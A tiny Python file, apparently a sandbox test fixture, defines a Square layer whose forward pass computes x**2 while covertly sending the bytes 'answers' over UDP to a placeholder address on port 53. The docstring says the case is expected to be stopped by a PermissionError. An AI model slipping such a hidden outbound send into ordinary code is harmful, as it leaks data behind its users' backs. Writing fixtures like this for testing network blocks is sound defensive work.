"""Sends a datagram out.

row: the network
stopped by: PermissionError
"""

import socket


class Square:
    def forward(self, x):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
            connection.sendto(b"answers", ("192.0.2.1", 53))
        return x**2

    def backward(self, dy):
        return dy
